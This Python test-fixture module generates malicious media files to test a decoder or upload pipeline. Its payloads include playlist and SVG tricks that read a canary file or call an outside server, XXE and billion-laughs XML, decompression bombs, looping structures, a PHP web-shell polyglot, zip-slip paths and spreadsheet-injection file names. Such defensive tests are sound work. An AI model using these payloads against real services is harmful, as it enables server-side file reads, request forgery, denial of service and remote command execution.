"""Seventy files that were made to do harm, each a few bytes away from a real one; nothing here is drawn by chance.

`canary` names a file, and `address` a server, that nobody may look at: whoever follows what a trap says is seen there.
"""

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from itertools import repeat

from tests import make

Trap = tuple[str, str, bytes]
"""What it tries, the name it comes by, and its bytes."""
_MANY = 10 << 20


def traps(canary: str, address: str) -> list[Trap]:
    """All of them."""
    return [*_lists(canary, address), *_polyglots(), *_bombs(), *_loops(), *_metadata(canary), *_names()]


def leading(canary: str, address: str) -> list[Trap]:
    """Those that would have something else opened; they are made in no time, unlike bombs."""
    return [each for each in (*_lists(canary, address), *_metadata(canary)) if canary.encode() in each[2]]


def _lists(canary: str, address: str) -> Iterator[Trap]:
    """Texts by which a decoder would open something else."""
    hls = f"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nfile://{canary}\n#EXTINF:9,\n{address}/a.ts\n#EXT-X-ENDLIST\n"
    concat = f"ffconcat version 1.0\nfile {canary}\nfile {address}/a.mp4\n"
    svg = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">'
    svg += f'<image xlink:href="file://{canary}" width="9" height="9"/><image xlink:href="{address}/b.png"/></svg>'
    mvg = (
        f"push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 0,0 '{address}/c.png'\nimage over 0,0 0,0 '{canary}'\n"
    )
    port = address.rpartition(":")[2]
    sdp = f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video {port} RTP/AVP 96\n"
    mpd = f'<?xml version="1.0"?><MPD><Period><BaseURL>{address}/</BaseURL></Period></MPD>'
    yield "HLS as mp4", "a.mp4", hls.encode()
    yield "HLS behind a mark", "b.mp4", b"\xef\xbb\xbf" + hls.encode()
    yield "HLS behind emptiness", "c.mov", b"\n" * 5000 + hls.encode()
    yield "HLS in a film", "d.mp4", _box(b"ftyp", b"isom\0\0\0\0isom") + _box(b"mdat", hls.encode())
    yield "ffconcat as mp4", "e.mp4", concat.encode()
    yield "ffconcat as jpg", "f.jpg", concat.encode()
    yield "SVG", "g.svg", svg.encode()
    yield "SVG as png", "h.png", b'<?xml version="1.0"?>' + svg.encode()
    yield "SVG packed", "i.svgz", gzip.compress(svg.encode())
    yield "MVG", "j.mvg", mvg.encode()
    yield "MVG as gif", "k.gif", mvg.encode()
    yield "SDP", "l.mp4", sdp.encode()
    yield "DASH", "m.mp4", mpd.encode()
    yield "PostScript", "n.jpg", f"%!PS-Adobe-3.0\n({canary}) (r) file 99 string readstring pop =\n".encode()
    yield "a film whose track is elsewhere", "o.mov", _elsewhere(canary)
    yield "a film that leads on", "p.mov", _leading(address)
    yield "PDF", "q.pdf", b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF"


def _elsewhere(canary: str) -> bytes:
    """A film with a data reference to another file."""
    film = bytearray(make.film(kind="mov"))
    at = film.find(b"dref") - 4
    found = struct.unpack(">I", film[at : at + 4])[0]
    refers = _box(b"dref", struct.pack(">II", 0, 1) + _box(b"url ", b"\0\0\0\0" + f"file://{canary}".encode() + b"\0"))
    film[at : at + found] = refers
    for kind in (b"dinf", b"minf", b"mdia", b"trak", b"moov"):
        head = film.rfind(kind, 0, at) - 4
        size = struct.unpack(">I", film[head : head + 4])[0] + len(refers) - found
        film[head : head + 4] = struct.pack(">I", size)
    return bytes(film)


def _leading(address: str) -> bytes:
    """A film of QuickTime that refers to another one."""
    refers = _box(b"rdrf", b"\0\0\0\0url " + struct.pack(">I", len(address)) + address.encode())
    return _box(b"ftyp", b"qt  \0\0\0\0qt  ") + _box(b"moov", _box(b"rmra", _box(b"rmda", refers)))


def _polyglots() -> Iterator[Trap]:
    """Files that are two things at once: taken in as one of them, and never served as the other."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as packed:
        packed.writestr("../../../evil.jpg", b"x")
    page = b"<html><script>alert(document.domain)</script></html>"
    jpeg = make.photo()
    yield "JPEG and ZIP", "gifar.jpg", jpeg + archive.getvalue()
    yield "JPEG and HTML", "page.html", jpeg[:2] + _segment(0xFE, page) + jpeg[2:]
    yield "JPEG and PHP", "shell.php.jpg", jpeg[:2] + _segment(0xFE, b"<?php system($_GET[0]); ?>") + jpeg[2:]
    yield "GIF and JavaScript", "a.js", b"GIF89a/*" + make.photo(kind="gif")[8:] + b"*/=1;alert(1)//"
    yield "PNG and PDF", "a.pdf", make.photo(kind="png") + b"%PDF-1.7\n%%EOF"
    yield "PNG and a program", "a.exe", make.photo(kind="png") + b"MZ" + bytes(64) + b"\x7fELF"
    yield "BMP and JavaScript", "b.bmp", b"BM=1;/*" + make.photo(kind="bmp")[7:] + b"*/alert(1)"
    yield "ZIP first", "z.jpg", archive.getvalue() + jpeg


def _bombs() -> Iterator[Trap]:
    """Little that unfolds to much."""
    yield "PNG of 900 megapixels", "a.png", make.bomb()
    yield (
        "PNG of two gigapixels a side",
        "b.png",
        _png(_chunk(b"IHDR", struct.pack(">IIBBBBB", 2**31 - 1, 2**31 - 1, 8, 2, 0, 0, 0))),
    )
    yield "PNG with much text", "c.png", _after_head(_chunk(b"zTXt", b"x\0\0" + zlib.compress(bytes(200 << 20), 9)))
    yield (
        "PNG with a large profile",
        "d.png",
        _after_head(_chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(100 << 20), 9))),
    )
    yield "PNG of many frames", "e.png", _after_head(_chunk(b"acTL", struct.pack(">II", 2**31 - 1, 0)))
    yield "GIF of a large canvas", "f.gif", b"GIF89a" + struct.pack("<HHBBB", 65535, 65535, 0, 0, 0) + _FRAME + b";"
    yield "GIF of many frames", "g.gif", b"GIF89a" + struct.pack("<HHBBB", 3000, 3000, 0, 0, 0) + _FRAME * 20_000 + b";"
    yield (
        "TIFF of a large page",
        "h.tif",
        _tiff((256, 4, 100_000), (257, 4, 100_000), (258, 3, 8), (262, 3, 1), (273, 4, 8), (279, 4, 9)),
    )
    yield "TIFF of many pages", "i.tif", _pages(200_000)
    yield "JPEG of a large page", "j.jpg", _resized(65_500, 65_500)
    yield "JPEG of many scans", "k.jpg", _scans(5000)
    yield "BMP of a large page", "l.bmp", _bmp(60_000, 60_000)
    yield "WebP of a large page", "m.webp", _webp()
    yield "HEIC of a large page", "n.heic", _heic(2**31 - 1)
    yield "film of a large page", "o.mp4", _patched(make.film(), b"mp4v", 24, struct.pack(">HH", 65535, 65535))
    yield "film of many samples", "p.mp4", _patched(make.film(), b"stsz", 8, struct.pack(">II", 1, 2**32 - 1))


def _loops() -> Iterator[Trap]:
    """What comes back to where it began, or never ends."""
    yield "TIFF whose page is its next", "a.tif", b"II*\0\x08\0\0\0" + _ifd((256, 4, 9), (257, 4, 9), next_at=8)
    yield "TIFF below itself", "b.tif", b"II*\0\x08\0\0\0" + _ifd((256, 4, 9), (257, 4, 9), (330, 4, 8))
    yield "EXIF below itself", "c.jpg", _exif(b"II*\0\x08\0\0\0" + _ifd((0x8769, 4, 8), next_at=8))
    yield "EXIF of endless values", "d.jpg", _exif(b"II*\0\x08\0\0\0" + _ifd((0x010E, 2, 8), count=2**32 - 1))
    yield "box without a length", "e.mp4", _box(b"ftyp", b"isom\0\0\0\0isom") + b"\0\0\0\0moov" + b"\0\0\0\0trak" * 1000
    yield "box of 2^64 bytes", "f.mp4", _box(b"ftyp", b"isom\0\0\0\0isom") + b"\0\0\0\1moov" + b"\xff" * 8
    yield "boxes in boxes", "g.mp4", _box(b"ftyp", b"isom\0\0\0\0isom") + _nested(20_000)
    yield "HEIC that refers to itself", "h.heic", _heic(64)
    yield "WebP that lies about its length", "i.webp", b"RIFF\xff\xff\xff\xffWEBPVP8X\xff\xff\xff\xff" + bytes(100)
    yield "GIF without an end", "j.gif", make.photo(kind="gif")[:-1] + b"!\xfe\xff" + b"x" * 255 + b"\x00" * 50_000


def _metadata(canary: str) -> Iterator[Trap]:
    """Words that are read, and must only be read."""
    begin, meta = '<?xml version="1.0"?><!DOCTYPE x [', '<x:xmpmeta xmlns:x="adobe:ns:meta/">'
    entity = f'{begin}<!ENTITY e SYSTEM "file://{canary}">]>{meta}&e;</x:xmpmeta>'
    laughs = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(12))
    laughing = f'{begin}<!ENTITY l0 "ha">{laughs}]>{meta}&l12;</x:xmpmeta>'
    motion = f'{meta}<r:RDF xmlns:r="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><r:Description '
    motion += 'xmlns:G="http://ns.google.com/photos/1.0/camera/" G:MicroVideo="1" '
    motion += 'G:MicroVideoOffset="-99999999999"/></r:RDF></x:xmpmeta>'
    script = b"<script>alert(1)</script>\0"
    yield "script in EXIF", "a.jpg", _exif(b"II*\0\x08\0\0\0" + _ifd((0x010E, 2, 26), count=len(script)) + script)
    yield "an entity in XMP", "b.jpg", _xmp(entity.encode())
    yield "a billion laughs", "c.jpg", _xmp(laughing.encode())
    yield "a moving part before the beginning", "d.jpg", _xmp(motion.encode())
    yield "ten megabytes of EXIF", "e.jpg", _with(b"".join(repeat(_segment(0xE1, b"Exif\0\0" + b"x" * 65_000), 160)))
    yield "ten megabytes of texts", "f.png", _after_head(b"".join(repeat(_chunk(b"tEXt", b"k\0" + b"v" * 65_000), 160)))
    yield "an endless profile", "g.jpg", _with(_segment(0xE2, b"ICC_PROFILE\0\1\1" + b"\xff" * 60_000))
    yield (
        "a second picture beyond the end",
        "h.jpg",
        _with(_segment(0xE2, b"MPF\0II*\0\x08\0\0\0" + _ifd((0xB002, 7, 2**31), count=2**31))),
    )
    yield "turned by 65,535", "i.jpg", _exif(b"II*\0\x08\0\0\0" + _ifd((0x0112, 3, 65535)))


def _names() -> Iterator[Trap]:
    """Good photos by names that are not."""
    for name in (
        "../../../../tmp/evil.jpg",
        "..\\..\\evil.jpg",
        "gpj.\u202efdp.jpg",
        "\u0430dmin.jpg",
        "nul\x00.jpg",
        "CON.jpg",
        "a" * 5000 + ".jpg",
        "=cmd|' /C calc'!A0.jpg",
        "\U0001f600.jpg",
        "-rf.jpg",
        " . .jpg. .",
        "\u200b\u200d.jpg",
    ):
        yield f"named {name[:20]!r}", name, make.photo()


_FRAME = b",\0\0\0\0\1\0\1\0\x80\0\0\0\xff\xff\xff\2\2D\1\0"


def _box(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body) + 8) + kind + body


def _nested(depth: int) -> bytes:
    total = depth * 8
    return b"".join(struct.pack(">I", total - 8 * n) + (b"moov" if n == 0 else b"udta") for n in range(depth))


def _segment(marker: int, body: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body


def _with(segments: bytes) -> bytes:
    jpeg = make.photo()
    return jpeg[:2] + segments + jpeg[2:]


def _exif(tiff: bytes) -> bytes:
    return _with(_segment(0xE1, b"Exif\0\0" + tiff))


def _xmp(packet: bytes) -> bytes:
    return _with(_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + packet))


def _ifd(*entries: tuple[int, int, int], next_at: int = 0, count: int = 1) -> bytes:
    rows = b"".join(struct.pack("<HHII", tag, kind, count, value) for tag, kind, value in entries)
    return struct.pack("<H", len(entries)) + rows + struct.pack("<I", next_at)


def _tiff(*entries: tuple[int, int, int]) -> bytes:
    return b"II*\0\x08\0\0\0" + _ifd(*entries) + bytes(16)


def _pages(count: int) -> bytes:
    size = len(_ifd((256, 4, 9), (257, 4, 9)))
    pages = (_ifd((256, 4, 9), (257, 4, 9), next_at=8 + size * (number + 1)) for number in range(count))
    return b"II*\0\x08\0\0\0" + b"".join(pages) + bytes(4)


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _png(*chunks: bytes) -> bytes:
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks) + _chunk(b"IDAT", zlib.compress(b"\0")) + _chunk(b"IEND", b"")


def _after_head(chunk: bytes) -> bytes:
    png = make.photo(kind="png")
    return png[:33] + chunk + png[33:]


def _resized(width: int, height: int) -> bytes:
    jpeg = make.photo()
    at = jpeg.find(b"\xff\xc0")
    return jpeg[: at + 5] + struct.pack(">HH", height, width) + jpeg[at + 9 :]


def _scans(count: int) -> bytes:
    """A progressive JPEG whose scans come again and again, each of which makes the decoder walk all blocks."""
    out = io.BytesIO()
    make.picture((2000, 2000), 5).save(out, "JPEG", progressive=True)
    jpeg = out.getvalue()
    at = jpeg.rfind(b"\xff\xda")
    return jpeg[:at] + jpeg[at : at + 200] * count + b"\xff\xd9"


def _bmp(width: int, height: int) -> bytes:
    bmp = make.photo(kind="bmp")
    return bmp[:18] + struct.pack("<ii", width, height) + bmp[26:]


def _webp() -> bytes:
    head = b"VP8X" + struct.pack("<I", 10) + b"\0\0\0\0" + b"\xff\xff\xff" * 2
    rest = make.photo(kind="webp")[12:]
    return b"RIFF" + struct.pack("<I", 4 + len(head) + len(rest)) + b"WEBP" + head + rest


def _heic(side: int) -> bytes:
    """A HEIC whose item is said to be of that size, is derived from itself, and lies in itself."""
    full = b"\0\0\0\0"
    entry = _box(b"infe", b"\2\0\0\0\0\1\0\0grid\0")
    properties = _box(b"ipco", _box(b"ispe", full + struct.pack(">II", side, side)))
    properties += _box(b"ipma", full + b"\0\0\0\1\0\1\1\x81")
    refers = _box(b"iref", full + _box(b"dimg", b"\0\1\0\1\0\1"))
    lies = _box(b"iloc", b"\1\0\0\0\x44\0\0\1\0\1\0\2\0\0\0\1" + struct.pack(">II", 0, 2**31))
    handler = _box(b"hdlr", full + bytes(4) + b"pict" + bytes(13))
    body = handler + _box(b"pitm", full + b"\0\1") + _box(b"iinf", full + b"\0\1" + entry)
    meta = full + body + _box(b"iprp", properties) + refers + lies
    return _box(b"ftyp", b"heic\0\0\0\0mif1heic") + _box(b"meta", meta)


def _patched(film: bytes, kind: bytes, after: int, told: bytes) -> bytes:
    """A film with other bytes so far behind the name of a box."""
    at = film.find(kind) + 4 + after
    return film[:at] + told + film[at + len(told) :]
